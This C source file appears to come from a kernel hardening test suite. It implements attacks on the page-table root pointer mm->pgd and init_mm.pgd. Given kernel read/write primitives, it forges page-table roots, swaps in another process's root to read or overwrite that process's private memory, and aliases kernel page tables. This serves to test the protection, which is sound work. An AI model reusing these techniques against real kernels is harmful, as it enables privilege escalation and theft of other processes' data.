// SPDX-License-Identifier: GPL-2.0-only
/*
 * What is used as the root of page tables: mm->pgd, an ordinary pointer.
 *
 * Judged, and left out:
 *  - task->mm, task->active_mm: whoever puts another process's mm there has that
 *    process's memory, as with ptrace(), and no page table is changed that the
 *    kernel would not change. The mm and its root still belong together.
 *  - mm->context.id on UML: the host process that is the address space. It is
 *    UML's CPU rather than a page table.
 *  - mm->context.id on arm64, the ASID: one that is equal to another process's
 *    lets the CPU use that process's TLB entries for as long as they last. No
 *    page table is changed, and nothing that memory permissions can do helps.
 *  - A root whose process is dying, or gone: root-freed, in pool.c.
 */
#include "attack.h"

#include <sched.h>

static u64 mm_pgd(void)
{
	return leak.mm + lookup("mm_struct.pgd");
}

static int memory_fd = -1;

/*
 * Reads, or writes, this process's memory as ptrace() does: the kernel walks the
 * page tables. If it cannot, the proof will be missing.
 */
static void access_by_kernel(void *addr, void *buffer, size_t size, bool write)
{
	ssize_t len;

	if (write)
		len = pwrite(memory_fd, buffer, size, (off_t)(uintptr_t)addr);
	else
		len = pread(memory_fd, buffer, size, (off_t)(uintptr_t)addr);
	(void)len;
}

/*
 * The attack itself: the memory at @addr, to or from shared->text. It is done
 * with the right root first: a page fault while there is a wrong one would be
 * handled in the wrong page tables. For the same reason the kernel, which on UML
 * walks the page tables for that, is given memory only that all processes share.
 */
static void access_with_root(u64 root, void *addr, bool write)
{
	struct kpkeys_attack_word *word = &shared->word;
	size_t size = sizeof(shared->text) - 1;
	struct sched_param first = { .sched_priority = 1 };
	int i;

	/* No CPU must load what is no root: on x86, that is to map the kernel, too. */
	if (on_arch("x86_64") && sched_setscheduler(0, SCHED_FIFO, &first))
		die("cannot keep others from running");
	memory_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	word->addr = mm_pgd();
	for (i = 0; i < 2; i++) {
		word->value = i ? root : leak.pgd;
		write_word(word);
		access_by_kernel(addr, i ? shared->text : shared->guess.secret, size,
				 i && write);
		word->value = leak.pgd;
		write_word(word);
	}
	shared->nr_writes = 1;
}

/*
 * A root of the attacker's making in its own memory: like the root at @like, but
 * for @target, whose last entry is @last. Returns its kernel address.
 */
static u64 make_root(const char *target, u64 like, u64 last)
{
	unsigned int level, i, nr = 1U << entry_bits();
	u64 *table, addr = 0, slot, entry = last;

	for (level = 1; level <= leak.levels; level++) {
		table = map_at(NULL, PAGE_SIZE, MAP_SHARED);
		memset(table, 0, PAGE_SIZE);
		addr = address_of(table);
		slot = entry_slot(like, target, level);
		for (i = 0; slot && i < nr; i++)
			table[i] = kernel_read((slot & ~(u64)(PAGE_SIZE - 1)) + 8 * i);
		table[entry_index(target, level)] = entry;
		if (level < leak.levels)
			entry = link_to(addr, level + 1);
	}
	return addr;
}

static int own_root_walked(void)
{
	char *target = map_at(free_address(3), PAGE_SIZE, MAP_SHARED);
	u64 root = make_root(target, leak.pgd, leaf(leak.secret));

	access_with_root(root, target, false);
	return steal_from(shared->text);
}

static int own_root_loaded(void)
{
	char *target = map_at(free_address(3), PAGE_SIZE, MAP_SHARED);
	u64 root = make_root(target, leak.pgd, leaf(leak.secret));

	run_on_cpu(0);
	kernel_write(mm_pgd(), root);
	/* UML loads entries that are marked as changed, arm64 the root. */
	mprotect(target, PAGE_SIZE, PROT_READ);
	switch_away();
	steal_from(target);
	restore(mm_pgd(), leak.pgd);
	switch_away();
	return DONE;
}

static int own_root_forked(void)
{
	char *target = mmap(free_address(3), 2 * PAGE_SIZE, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	u64 root;
	pid_t pid;

	if (target == MAP_FAILED)
		die("cannot map memory");
	root = make_root(target, leak.pgd, leaf(leak.secret));
	/* Only what has anonymous memory is copied. */
	target[PAGE_SIZE] = 1;

	kernel_write(mm_pgd(), root);
	pid = fork();
	if (!pid) {
		steal_from(target);
		_exit(0);
	}
	restore(mm_pgd(), leak.pgd);
	waitpid(pid, NULL, 0);
	return DONE;
}

/*
 * A table of the last level has entries like those of a root, and they point to
 * pages that the attacker can write. They become copies of what the real root
 * points to, and what leads to the target.
 */
static int other_level(void)
{
	unsigned int nr = 1U << entry_bits(), index = 3, i, j;
	char *range = table_range(0), *target = map_at(free_address(index), PAGE_SIZE, MAP_SHARED);
	u64 *table = (u64 *)(range + index * PAGE_SIZE), entry;

	for (i = 0; i < nr / 2; i++) {
		entry = kernel_read(leak.pgd + 8 * i);
		for (j = 0; entry & 1 && j < nr; j++)
			((u64 *)(range + i * PAGE_SIZE))[j] =
				kernel_read(kernel_address(entry) + 8 * j);
	}
	memset(table, 0, PAGE_SIZE);
	flush();
	map_secret(table, target);

	access_with_root(table_of(range, 1), target, false);
	return steal_from(shared->text);
}

/*
 * A victim, with a text of its own at @page. It says whether the attacker has
 * read that, or has written @must_not_have there. words[]: 0 its root, 1 go on
 */
static pid_t start_victim(char *page, const char *must_not_have)
{
	pid_t pid = fork();

	if (!pid) {
		struct kpkeys_attack_leak own = {};
		u64 token[2] = {};
		int fd = open("/dev/urandom", O_RDONLY);

		if (fd < 0 || read(fd, token, sizeof(token)) != sizeof(token))
			die("no random numbers");
		sprintf(page, "private %016llx%016llx", token[0], token[1]);
		get_leak(&own, page);
		shared->words[0] = own.pgd;
		wait_for(&shared->words[1], 1);
		shared->victim_lost = !strcmp(page, must_not_have ?: shared->text);
		_exit(0);
	}
	while (!*(volatile u64 *)&shared->words[0])
		usleep(1000);
	return pid;
}

static char *victim_page(void)
{
	char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (page == MAP_FAILED)
		die("cannot map memory");
	return page;
}

static int other_root_read(void)
{
	char *page = victim_page();
	pid_t pid = start_victim(page, NULL);

	access_with_root(shared->words[0], page, false);
	shared->words[1] = 1;
	waitpid(pid, NULL, 0);
	return DONE;
}

static int other_root_written(void)
{
	static const char text[] = "the attacker was here";
	char *page = victim_page();
	pid_t pid = start_victim(page, text);

	strcpy(shared->text, text);
	access_with_root(shared->words[0], page, true);
	shared->words[1] = 1;
	waitpid(pid, NULL, 0);
	return DONE;
}

/*
 * init_mm.pgd. On UML it is what vmalloc()'s memory is mapped from: a second
 * mapping of a page table has no pkey.
 */
static int kernel_root(void)
{
	u64 init_mm = lookup("init_mm"), pgd = init_mm + lookup("mm_struct.pgd");
	u64 slot = own_page_slot(), real, root;
	char *alias;

	if (on_arch("x86_64"))
		return not_possible("no process runs on the root of init_mm");
	if (!on_arch("um"))
		return not_possible("the CPU does not load the kernel's root from init_mm");
	/* At the end of vmalloc()'s range, which nobody uses. */
	alias = (char *)(uintptr_t)kernel_read(lookup("end_vm")) - 1024 * PAGE_SIZE;

	real = kernel_read(pgd);
	root = make_root(alias, real, leaf(slot & ~(u64)(PAGE_SIZE - 1)));

	kernel_write(pgd, root);
	/* The alias is mapped by the fault at the write below. */
	kernel_write(init_mm + lookup("mm_struct.context.sync_tlb_range_from"), (uintptr_t)alias);
	kernel_write(init_mm + lookup("mm_struct.context.sync_tlb_range_to"),
		     (uintptr_t)alias + PAGE_SIZE);
	steal_by_write((uintptr_t)alias + slot % PAGE_SIZE);
	restore(pgd, real);
	return DONE;
}

const struct attack roots[] = {
	{ "mm-pgd-own", "mm->pgd: the attacker's own memory, walked by the kernel",
	  own_root_walked },
	{ "mm-pgd-load", "mm->pgd: the attacker's own memory, loaded", own_root_loaded },
	{ "mm-pgd-fork", "mm->pgd: the attacker's own memory, copied by fork()", own_root_forked },
	{ "mm-pgd-level", "mm->pgd: a table of the last level", other_level },
	{ "mm-pgd-other", "mm->pgd: another process's root, to read", other_root_read },
	{ "mm-pgd-oracle", "mm->pgd: another process's root, to write", other_root_written },
	{ "init-mm-pgd", "init_mm.pgd: the attacker's own memory", kernel_root },
	{ }
};
